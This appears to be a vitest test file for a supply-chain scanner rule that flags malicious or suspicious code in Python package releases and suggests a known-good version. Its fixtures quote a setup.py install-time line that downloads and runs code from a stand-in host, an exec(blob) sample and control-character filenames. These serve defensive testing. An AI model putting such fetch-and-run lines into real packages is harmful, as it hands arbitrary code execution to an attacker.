import { describe, expect, test } from 'vitest';
import { checkDependency } from '../../../server/src/rules/check.ts';
import { knownGood } from '../../../server/src/rules/known-good.ts';
import { suspiciousCode } from '../../../server/src/rules/suspicious-code.ts';
import { wantedBy } from '../../../server/src/rules/wanted.ts';
import { found, inspected, inspection } from './release-inspection.ts';
import { advisory, everyVersion, releases, ruleInput } from './rule-input.ts';

const input = (requirement: string, sketch: Parameters<typeof ruleInput>[0] = {}) =>
  ruleInput({ name: 'acme', specifier: requirement.slice('acme'.length), ...sketch });

const bad = inspection({ evidence: [found()] });
const doubtful = inspection({
  file: 'acme-1.0-py3-none-any.whl',
  evidence: [found({ weight: 0.6, file: 'acme/run.py', line: null, when: null, text: 'exec(blob)' })],
});
const clean = inspection({ file: 'acme-1.0-py3-none-any.whl' });
const three = releases('0.8', '0.9', '1.0');

describe('suspicious-code', () => {
  test('is an error for malicious code: what, where, when it runs, why, and what to do', () => {
    const others = new Array<null>(12).fill(null);
    const finding = suspiciousCode.check(
      input('acme==1.0', { releases: three, inspected: inspected([clean, bad], others) }),
    );
    expect(finding).toMatchObject({ level: 'error', certainty: 'high', version: '1.0' });
    expect(finding?.message).toBe(
      'acme 1.0 holds malicious code in setup.py, line 3, which runs when it is installed: os.system(download("https://payload.example.invalid")). Whoever has that address decides what runs. Do not install it; 2 of 14 files were looked into.',
    );
    expect(finding?.evidence).toEqual([
      {
        text: 'acme-1.0.tar.gz: setup.py, line 3, when it is installed: os.system(download("https://payload.example.invalid")). Whoever has that address decides what runs.',
        source: 'look inside',
        asOf: '2026-11-22T09:57:00.000Z',
      },
    ]);
  });

  test('is a warning for suspicious code', () => {
    const finding = suspiciousCode.check(input('acme==1.0', { inspected: inspected([doubtful]) }));
    expect(finding).toMatchObject({ level: 'warning', certainty: 'medium' });
    expect(finding?.message).toBe(
      'acme 1.0 holds suspicious code in acme/run.py: exec(blob). Whoever has that address decides what runs. Read the lines before you install it; one file was looked into.',
    );
  });

  test('tells which release of a range it is about', () => {
    const finding = suspiciousCode.check(input('acme>=0.8', { inspected: inspected([bad]) }));
    expect(finding?.message).toMatch(
      /^acme 1\.0, the newest release that acme>=0\.8 allows, holds malicious code/,
    );
  });

  test.each([
    ['nobody looked', null],
    ['nothing was found', inspected([clean])],
    ['nothing could be looked into', inspected([], ['it is too large'])],
    ['a remark is all', inspected([inspection({ evidence: [found({ weight: 0.4 })] })])],
    ['nothing could be read', inspected([inspection({ verdict: 'not-inspected' })])],
  ])('is silent where %s', (_, given) => {
    expect(suspiciousCode.check(input('acme==1.0', { inspected: given }))).toBe(null);
  });

  test('is no less of a popular project', () => {
    const finding = suspiciousCode.check(input('acme==1.0', { rank: 3, inspected: inspected([bad]) }));
    expect(finding).toMatchObject({ level: 'error', certainty: 'high' });
  });

  test('takes the evidence that made the verdict, not code that somebody has to call first', () => {
    const called = found({ weight: 0.99, when: 'called', file: 'acme/tool.py' });
    const finding = suspiciousCode.check(
      input('acme==1.0', { inspected: inspected([inspection({ evidence: [called, found()] })]) }),
    );
    expect(finding?.message).toContain('malicious code in setup.py');
  });

  test('cleans what the attacker wrote', () => {
    const evil = found({ file: 'a\u202e\u001b[31m.py', text: 'x\u0007\n\u200b'.repeat(100) });
    const finding = suspiciousCode.check(
      input('acme==1.0', { inspected: inspected([inspection({ evidence: [evil] })]) }),
    );
    const said = JSON.stringify(finding?.evidence) + finding?.message;
    // biome-ignore lint/suspicious/noControlCharactersInRegex: these are what must not be there.
    expect(said).not.toMatch(/[\u0000-\u001f\u200b\u202e]/);
    expect(finding?.message.length).toBeLessThan(500);
  });

  test('suggests the known-good version, which is never one that holds malicious code', () => {
    const given = input('acme==1.0', {
      releases: three,
      inspected: inspected([bad]),
      condemned: new Set(['1.0', '0.9']),
    });
    expect(suspiciousCode.check(given)?.suggestions).toMatchObject([{ kind: 'pin', version: '0.8' }]);
    expect(knownGood(wantedBy(given))?.version).toBe('0.8');
    const all = input('acme==1.0', { releases: three, condemned: new Set(['1.0', '0.9', '0.8']) });
    expect(knownGood(wantedBy(all))).toBe(null);
  });

  test.each([
    ['a malware verdict', { advisories: [advisory({ malicious: true, ...everyVersion })] }, 'malicious'],
    ['a quarantine', { status: 'quarantined' as const }, 'quarantined'],
  ])('gives way to %s', (_, sketch, rule) => {
    const findings = checkDependency(
      input('acme==1.0', { releases: three, inspected: inspected([bad]), ...sketch }),
    );
    expect(findings.map((finding) => finding.rule)).toEqual([rule]);
  });

  test('says more than that the release is new', () => {
    const young = releases('0.8', { version: '0.9', daysOld: 100 }, { version: '1.0', daysOld: 1 });
    const findings = checkDependency(input('acme==1.0', { releases: young, inspected: inspected([bad]) }));
    expect(findings.map((finding) => finding.rule)).toEqual(['suspicious-code']);
  });
});
